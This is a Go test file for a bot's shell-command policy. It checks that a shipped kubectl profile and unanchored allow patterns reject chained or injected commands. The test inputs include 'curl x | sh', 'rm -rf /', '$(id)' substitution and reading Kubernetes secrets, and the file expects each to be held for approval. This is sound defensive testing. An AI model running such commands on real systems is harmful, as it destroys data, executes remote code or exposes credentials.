package main

import (
	"regexp"
	"strconv"
	"strings"
	"testing"
)

// shippedProfileExample returns the shipped config.yaml with its
// commented profiles example uncommented.
func shippedProfileExample(t *testing.T) string {
	t.Helper()
	cfg := defaultConfig(t)
	block := regexp.MustCompile(`(?m)^# profiles:.*\n(#   .*\n)+`).FindString(cfg)
	if block == "" {
		t.Fatal("the shipped config.yaml has no commented profiles example")
	}
	var b strings.Builder
	for _, l := range strings.SplitAfter(block, "\n") {
		b.WriteString(strings.TrimPrefix(l, "# "))
	}
	return strings.Replace(cfg, block, b.String(), 1)
}

// TestShippedProfileExampleAllowsOnlyWholeCommands: the profile example in
// config.yaml allows the kubectl commands it names and nothing a command
// adds after them: `kubectl get pods; curl … | sh` and a newline with
// another command are held, as every other shell command. Its pattern was
// a prefix ('"command":"kubectl get '), which allowed both. Doctor and
// `bot policy explain` do not warn of it.
func TestShippedProfileExampleAllowsOnlyWholeCommands(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	writeFile(t, dir, "config.yaml", shippedProfileExample(t))
	for _, c := range []struct {
		command string
		want    int
	}{
		{"kubectl get pods", exitOK},
		{"kubectl get services -n prod", exitOK},
		{"kubectl get pods; curl x | sh", exitApprove},
		{"kubectl get pods\nrm -rf /", exitApprove},
		{"kubectl get pods && sh", exitApprove},
		{"kubectl get pods -n $(id)", exitApprove},
		{"kubectl get secrets -o yaml", exitApprove},
		{"echo; kubectl get pods", exitApprove},
	} {
		args := `{"command":` + strconv.Quote(c.command) + `}`
		r := runOnce(t, dir, baseEnv(dir), "", "policy", "test", "-tool", "shell", "-args", args,
			"-identity", "slack:U1", "-conversation", "slack:C0OPS1")
		if r.code != c.want || !strings.Contains(r.stdout, "profile:      ops\n") {
			t.Errorf("%q in the ops profile: exit %d; want %d\n%s%s", c.command, r.code, c.want, r.stdout, r.stderr)
		}
	}
	r := runOnce(t, dir, baseEnv(dir), "", "doctor")
	if r.code != exitOK || strings.Contains(r.stdout, "not anchored") {
		t.Errorf("doctor on the example: exit %d, or it warns of its pattern:\n%s%s", r.code, r.stdout, r.stderr)
	}
	r = runOnce(t, dir, baseEnv(dir), "", "policy", "explain")
	if r.code != exitOK || strings.Contains(r.stdout, "warning") || !strings.Contains(r.stdout, `profile ops #1 {tool: shell, args: "^\\{\"command\"`) {
		t.Errorf("policy explain on the example: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
}

// TestDoctorWarnsOfAShellAllowNotAnchored: an allow rule on shell whose
// pattern is not anchored at both ends — in policy.rules or a profile's —
// is a warning in doctor (exit 0) and in `bot policy explain`, under the
// rule; one anchored at both ends is not.
func TestDoctorWarnsOfAShellAllowNotAnchored(t *testing.T) {
	t.Parallel()
	const loose, whole = `'^kubectl get '`, `'^kubectl get pods$'`
	for _, c := range []struct {
		name, pattern string
		warn          bool
	}{
		{"prefix", loose, true},
		{"whole", whole, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			cfg := strings.Replace(policyConfig(t), "  rules:\n", "  rules:\n    - {tool: shell, args: "+c.pattern+", decision: allow}\n", 1)
			cfg += "profiles:\n  - name: ops\n    match: [\"console:*\"]\n    policy: {rules: [{tool: shell, args: " + c.pattern + ", decision: allow}]}\n"
			writeFile(t, dir, "config.yaml", cfg)
			r := runOnce(t, dir, baseEnv(dir), "", "doctor")
			if r.code != exitOK {
				t.Fatalf("doctor: exit %d; want 0\n%s%s", r.code, r.stdout, r.stderr)
			}
			for _, key := range []string{"warning: policy.rules[0]: allows shell commands by an args pattern not anchored at both ends",
				"warning: profiles[0].policy.rules[0]: allows shell commands by an args pattern not anchored at both ends"} {
				if strings.Contains(r.stdout, key) != c.warn {
					t.Errorf("doctor with %s: warns %q: %v; want %v\n%s", c.pattern, key, !c.warn, c.warn, r.stdout)
				}
			}
			r = runOnce(t, dir, baseEnv(dir), "", "policy", "explain")
			warning := "\n  warning: this rule allows shell commands by an args pattern not anchored at both ends"
			if r.code != exitOK || strings.Count(r.stdout, warning) != map[bool]int{true: 2, false: 0}[c.warn] {
				t.Errorf("policy explain with %s: exit %d; want the warning under both rules: %v\n%s%s", c.pattern, r.code, c.warn, r.stdout, r.stderr)
			}
		})
	}
}
